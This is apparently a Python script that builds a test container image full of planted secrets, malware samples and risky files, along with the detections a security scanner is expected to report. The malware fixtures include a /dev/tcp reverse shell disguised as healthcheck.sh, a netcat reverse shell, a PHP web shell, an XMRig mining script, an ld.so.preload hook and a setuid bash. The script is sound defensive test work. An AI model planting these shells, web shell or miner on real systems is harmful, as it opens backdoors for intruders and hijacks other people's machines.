#!/usr/bin/env python3
"""Write the planted files of the content test image (scripts/build-content-image).

argv: OUT_DIR DEBIAN_ROOTFS. Writes OUT_DIR/layer1, OUT_DIR/layer2 (with whiteouts),
OUT_DIR/env.txt, OUT_DIR/history2.txt; prints expected.json on stdout.
Every credential is random and format-valid (never a real one); EICAR is assembled
from halves so this file is not itself the test string.
"""
import base64, json, os, random, secrets, shutil, string, subprocess, sys

out, rootfs = sys.argv[1], sys.argv[2]
L1, L2 = os.path.join(out, "layer1"), os.path.join(out, "layer2")
rnd = random.SystemRandom()
ALNUM = string.ascii_letters + string.digits
B32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
HEX = "0123456789abcdef"


def r(alphabet, n):
    return "".join(rnd.choice(alphabet) for _ in range(n))


expected = []


def put(layer, path, text, mode=0o644, binary=False):
    full = os.path.join(layer, path.lstrip("/"))
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "wb" if binary else "w") as f:
        f.write(text)
    os.chmod(full, mode)


def expect(scanner, rule, path, layer, deleted_in=None):
    expected.append({"scanner": scanner, "rule": rule, "path": path, "layer": layer,
                     "deleted_in": deleted_in})


# ---- layer 1: secrets
aws_id = "AKIA" + r(B32, 16)
aws_secret = r(ALNUM + "/+", 40)
put(L1, "/app/.env", f"AWS_ACCESS_KEY_ID={aws_id}\nAWS_SECRET_ACCESS_KEY={aws_secret}\nDEBUG=false\nTENANT=corp-{r(HEX, 10)}\n")
expect("secret", "aws-access-key-id", "/app/.env", 1)
expect("secret", "aws-secret-access-key", "/app/.env", 1)
stripe = "sk_live_" + r(ALNUM, 24)
slack = f"xoxb-{r(string.digits, 11)}-{r(string.digits, 12)}-{r(ALNUM, 24)}"
put(L1, "/app/config/settings.py", f'STRIPE_KEY = "{stripe}"\nSLACK = "{slack}"\nDEBUG = False\n')
expect("secret", "stripe-secret-key", "/app/config/settings.py", 1)
expect("secret", "slack-bot-token", "/app/config/settings.py", 1)
ghp = "ghp_" + r(ALNUM, 36)
put(L1, "/root/.git-credentials", f"https://ci-bot:{r(ALNUM, 20)}@git.example.com\n", 0o600)
put(L1, "/app/ci.env", f"GH_TOKEN={ghp}\n")
expect("secret", "github-pat", "/app/ci.env", 1)
expect("secret", "git-credentials", "/root/.git-credentials", 1)
dauth = base64.b64encode(f"deploy:{r(ALNUM, 18)}".encode()).decode()
put(L1, "/root/.docker/config.json", json.dumps({"auths": {"registry.example.com": {"auth": dauth}}}, indent=1), 0o600)
expect("secret", "docker-config-auth", "/root/.docker/config.json", 1)
npm = "npm_" + r(ALNUM, 36)
put(L1, "/app/.npmrc", f"//registry.npmjs.org/:_authToken={npm}\n")
expect("secret", "npm-access-token", "/app/.npmrc", 1)
pypi = "pypi-AgEIcHlwaS5vcmc" + r(ALNUM + "-_", 70)
put(L1, "/root/.pypirc", f"[pypi]\nusername = __token__\npassword = {pypi}\n", 0o600)
expect("secret", "pypi-upload-token", "/root/.pypirc", 1)
put(L1, "/root/.netrc", f"machine api.example.com login bob password {r(ALNUM, 16)}\n", 0o600)
expect("secret", "netrc-password", "/root/.netrc", 1)
key = os.path.join(out, "k")
subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "planted", "-f", key], check=True)
put(L1, "/app/keys/id_ed25519", open(key).read(), 0o600)
expect("secret", "openssh-private-key", "/app/keys/id_ed25519", 1)
pem = subprocess.run(["openssl", "genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-256"],
                     check=True, capture_output=True, text=True).stdout
put(L1, "/app/keys/server.pem", pem, 0o600)
expect("secret", "private-key", "/app/keys/server.pem", 1)
b64u = lambda b: base64.urlsafe_b64encode(b).decode().rstrip("=")
jwt = ".".join([b64u(b'{"alg":"HS256","typ":"JWT"}'),
                b64u(json.dumps({"sub": r(ALNUM, 12), "iat": 1704067200}).encode()),
                b64u(secrets.token_bytes(32))])
put(L1, "/app/session.txt", f"Authorization token for the worker: {jwt}\n")
expect("secret", "jwt", "/app/session.txt", 1)
put(L1, "/app/db.yaml", f"database:\n  url: postgres://app:{r(ALNUM, 20)}@db.internal:5432/app\n")
expect("secret", "database-url-password", "/app/db.yaml", 1)
put(L1, "/app/maps.js", f'const key = "AIza{r(ALNUM + "-_", 35)}";\n')
expect("secret", "gcp-api-key", "/app/maps.js", 1)
put(L1, "/app/notify.sh", f"curl -X POST https://hooks.slack.com/services/T{r(B32, 10)}/B{r(B32, 10)}/{r(ALNUM, 24)}\n", 0o755)
expect("secret", "slack-webhook-url", "/app/notify.sh", 1)
put(L1, "/app/twilio.env", f"TWILIO_API_KEY=SK{r(HEX, 32)}\n")
expect("secret", "twilio-api-key", "/app/twilio.env", 1)
put(L1, "/app/mail.cfg", f"sendgrid = SG.{r(ALNUM, 22)}.{r(ALNUM, 43)}\n")
expect("secret", "sendgrid-api-key", "/app/mail.cfg", 1)
put(L1, "/app/gitlab.txt", f"token: glpat-{r(ALNUM, 20)}\n")
expect("secret", "gitlab-pat", "/app/gitlab.txt", 1)
put(L1, "/app/ai.py", f'OPENAI_API_KEY = "sk-proj-{r(ALNUM, 30)}T3BlbkFJ{r(ALNUM, 30)}"\n')
expect("secret", "openai-api-key", "/app/ai.py", 1)
put(L1, "/app/app.properties", f'db.password = "{r(ALNUM, 22)}"\n')
expect("secret", "generic-secret-assignment", "/app/app.properties", 1)
# deleted and overwritten in layer 2
put(L1, "/app/deleted.txt", f"GH_TOKEN=ghp_{r(ALNUM, 36)}\n")
expect("secret", "github-pat", "/app/deleted.txt", 1, deleted_in=2)
put(L1, "/app/overwritten.conf", f"admin_token: glpat-{r(ALNUM, 20)}\n")
expect("secret", "gitlab-pat", "/app/overwritten.conf", 1, deleted_in=2)
put(L1, "/app/secrets/old.key", open(key).read(), 0o600)
expect("secret", "openssh-private-key", "/app/secrets/old.key", 1, deleted_in=2)

# ---- layer 1: malware
eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
put(L1, "/opt/eicar.com", eicar)
expect("malware", "EICAR_Test_File", "/opt/eicar.com", 1)
wallet = "4" + r(ALNUM, 94)
put(L1, "/opt/miner/start.sh",
    f"#!/bin/sh\ncd /opt/miner && ./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u {wallet} --donate-level 1 -B\n", 0o755)
expect("malware", "CryptoMiner_Stratum", "/opt/miner/start.sh", 1)
expect("malware", "CryptoMiner_XMRig", "/opt/miner/start.sh", 1)
put(L1, "/usr/local/bin/healthcheck.sh", "#!/bin/bash\nbash -i >& /dev/tcp/10.13.37.1/4444 0>&1\n", 0o755)
expect("malware", "ReverseShell_DevTcp", "/usr/local/bin/healthcheck.sh", 1)
put(L1, "/var/www/html/up.php", "<?php if (isset($_GET['c'])) { system($_GET['c']); } ?>\n")
expect("malware", "Webshell_PHP_Eval", "/var/www/html/up.php", 1)
put(L1, "/etc/ld.so.preload", "/usr/local/lib/libhide.so\n")
expect("malware", "ld-so-preload", "/etc/ld.so.preload", 1)
put(L1, "/tmp/.x/run.sh", "#!/bin/sh\nnc -e /bin/sh 10.13.37.1 9001\n", 0o755)
expect("malware", "ReverseShell_Netcat", "/tmp/.x/run.sh", 1, deleted_in=2)

# ---- layer 1: risky files
bash = open(os.path.join(rootfs, "usr/bin/bash"), "rb").read()
put(L1, "/usr/local/bin/rootsh", bash, 0o4755, binary=True)
expect("file", "setuid-unowned", "/usr/local/bin/rootsh", 1)
# File capabilities, set by the real setcap on copies of Debian's binaries (the tar of
# build-content-image keeps them as PAX SCHILY.xattr.security.capability records).
dirbin = open(os.path.join(rootfs, "usr/bin/dir"), "rb").read()
put(L1, "/usr/local/bin/netdiag", dirbin, 0o755, binary=True)
subprocess.run(["setcap", "cap_net_raw,cap_sys_admin,cap_setuid+ep",
                os.path.join(L1, "usr/local/bin/netdiag")], check=True)
expect("file", "file-capabilities", "/usr/local/bin/netdiag", 1)
put(L1, "/usr/local/bin/pinger", dirbin, 0o755, binary=True)
subprocess.run(["setcap", "cap_net_raw+p", os.path.join(L1, "usr/local/bin/pinger")], check=True)
expect("file", "file-capabilities", "/usr/local/bin/pinger", 1)
os.makedirs(os.path.join(L1, "srv/drop"), exist_ok=True)
os.chmod(os.path.join(L1, "srv/drop"), 0o777)
expect("file", "world-writable-dir", "/srv/drop", 1)
put(L1, "/root/.ssh/authorized_keys", open(key + ".pub").read(), 0o600)
expect("file", "authorized-keys", "/root/.ssh/authorized_keys", 1)
subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "host", "-f", key + "h"], check=True)
put(L1, "/etc/ssh/ssh_host_ed25519_key", open(key + "h").read(), 0o600)
expect("file", "ssh-host-key", "/etc/ssh/ssh_host_ed25519_key", 1)
expect("secret", "openssh-private-key", "/etc/ssh/ssh_host_ed25519_key", 1)
put(L1, "/app/.git/HEAD", "ref: refs/heads/main\n")
put(L1, "/app/.git/config", "[core]\n\trepositoryformatversion = 0\n")
expect("file", "git-directory", "/app/.git", 1)
put(L1, "/var/cache/apt/archives/tool_1.0_amd64.deb", secrets.token_bytes(4096), binary=True)
expect("file", "package-cache", "/var/cache/apt/archives", 1)

# ---- layer 2: deletions, overwrites, tampering
put(L2, "/app/.wh.deleted.txt", "")
put(L2, "/app/secrets/.wh..wh..opq", "")
put(L2, "/app/secrets/README", "keys moved to the vault\n")
put(L2, "/tmp/.wh..x", "")
put(L2, "/app/overwritten.conf", "admin_token: (from the vault)\n")
put(L2, "/usr/bin/ls", "#!/bin/sh\nexec /usr/bin/dir \"$@\"\n", 0o755)
expect("integrity", "package-file-modified", "/usr/bin/ls", 2)
put(L2, "/etc/issue", "Welcome\n")
expect("integrity", "package-conffile-modified", "/etc/issue", 2)

# ---- config and history
env_secret = r(ALNUM, 24)
ghp_env = "ghp_" + r(ALNUM, 36)
with open(os.path.join(out, "env.txt"), "w") as f:
    f.write(f"GITHUB_TOKEN={ghp_env}\nDB_PASSWORD={env_secret}\nLANG=C.UTF-8\n")
expect("secret", "github-pat", "config:Env", None)
expect("secret", "generic-env-secret", "config:Env", None)
with open(os.path.join(out, "history2.txt"), "w") as f:
    f.write(f"RUN curl -fsS -u admin:{r(ALNUM, 16)} https://artifacts.example.com/tool.tgz | tar -xz")
expect("secret", "curl-user-password", "history:2", 2)

# The secrets themselves, so the test can check none of them is printed.
raw = [aws_id, aws_secret, stripe, slack, ghp, npm, pypi, jwt, env_secret, ghp_env]
json.dump({"expected": expected, "raw": raw}, sys.stdout, indent=1)
